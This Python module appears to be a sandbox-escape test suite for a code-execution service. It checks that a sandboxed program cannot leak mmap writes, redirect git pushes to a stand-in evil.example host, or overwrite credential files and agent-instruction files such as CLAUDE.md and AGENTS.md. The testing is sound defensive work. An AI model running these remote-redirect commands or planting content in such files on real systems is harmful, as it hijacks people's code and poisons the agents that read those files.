"""K: what reaches a person's directory or a session's files is not what the person is told."""

import os
import subprocess
import tempfile
import time

from live.approvals import session_of
from live.rows import NotRun, live

MAPPED = """import mmap, os, time
file = os.open('data.bin', os.O_RDWR)
view = mmap.mmap(file, 0)
view[0:5] = b'first'
"""
SIBLINGS = ("lefthook.toml", "lefthook.json", "mise.local.toml", "mise.dev.toml", "mise/config.toml", ".huskyrc.js",
            "prek.toml", ".sl/config", ".pijul/config", "jupyter_server_config.py", "x.sublime-project",
            ".theia/tasks.json", ".externalToolBuilders/x.launch", ".lazy.lua", ".env", ".venv/bin/python",
            "lib/site-packages/x.pth", ".cargo/config.toml", ".mvn/extensions.xml", "lint-staged.config.js",
            ".git-credentials", ".pgpass", ".vault-token", ".cargo/credentials.toml", ".lfsconfig", ".gitreview",
            ".RData", ".byebugrc", "_vimrc", ".lite_project.lua", ".cargo/env", ".flaskenv", ".corepack.env",
            ".jj/workspace-config.toml", ".ampcoderc")
INSTRUCTIONS = (".cursorrules", ".windsurfrules", ".roomodes", ".goosehints", "CLAUDE.md", "AGENTS.md", "GEMINI.md",
                ".github/copilot-instructions.md")


def run_in(house, directory, code):
    return subprocess.run([house.binary, "run", "--yes", "--language", "shell", "--workspace", directory, code],
                          env=house.environment(), capture_output=True, text=True, timeout=120, check=False)


@live("K71", "HostLeak", "a program writes through a shared mapping that it keeps", "each commit has every byte")
def _(house):
    with session_of(house.mallory.run, {"data.bin": bytes(4096)}) as session:
        def cell(code):
            answer = house.mallory.both.ask("POST", f"/v1/sessions/{session}/contexts/c/execute", code=code,
                                            approve=True)
            if answer.status != 200:
                raise NotRun(f"{answer.status} {answer.body[:200]!r}")

        house.mallory.run.expect(201, "POST", f"/v1/sessions/{session}/contexts", name="c", language="python")
        cell(MAPPED)
        for word in ("second", "third.", "fourth"):
            time.sleep(0.5)  # until the times of files tell what comes from what was
            house.mallory.run.expect(200, "POST", f"/v1/sessions/{session}/execute", language="shell", code="true")
            cell(f"view[0:6] = b'{word}'")
        time.sleep(0.5)
        house.mallory.run.ask("POST", f"/v1/sessions/{session}/stop")
        found = house.mallory.run.ask("GET", f"/v1/sessions/{session}/files/content", query={"path": "data.bin"}).body
    return not found.startswith(b"fourth"), f"kept: {found[:6]!r}"


@live("K81", "Escape", "a program sends a person's next push elsewhere", "the remote stays")
def _(house):
    moved = []
    for change in ("git remote set-url origin https://evil.example/x", "git config remote.origin.pushurl https://evil.example",
                   "git config remote.pushDefault evil; git remote add evil https://evil.example",
                   "git config branch.main.remote https://evil.example"):
        with tempfile.TemporaryDirectory() as place:
            for arguments in (["init", "-q", "-b", "main"], ["remote", "add", "origin", "https://example.org/x"]):
                subprocess.run(["git", "-C", place, *arguments], check=True, capture_output=True)
            run_in(house, place, change)
            with open(os.path.join(place, ".git", "config"), encoding="utf-8") as file:
                moved += [change] if "evil" in file.read() else []
    return bool(moved), "moved by " + moved[0] if moved else "4 ways, none reached the person's repository"


@live("K82", "Escape", "files that run by themselves or hold a login, by names beside those that are known",
      "withheld; what instructs agents is withheld when it was there")
def _(house):
    with tempfile.TemporaryDirectory() as place:
        for name in INSTRUCTIONS:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            with open(os.path.join(place, name), "w", encoding="utf-8") as file:
                file.write("honest\n")
        script = "".join(f"mkdir -p \"$(dirname '{name}')\"; echo evil > '{name}'\n" for name in SIBLINGS + INSTRUCTIONS)
        run_in(house, place, script + "echo there > proof.txt")
        if not os.path.exists(os.path.join(place, "proof.txt")):
            raise NotRun("the program changed nothing")
        arrived = []
        for name in SIBLINGS + INSTRUCTIONS:
            path = os.path.join(place, name)
            if os.path.exists(path):
                with open(path, encoding="utf-8") as file:
                    arrived += [name] if "evil" in file.read() else []
    return bool(arrived), "arrived: " + ", ".join(arrived) if arrived else f"{len(SIBLINGS) + len(INSTRUCTIONS)} withheld"
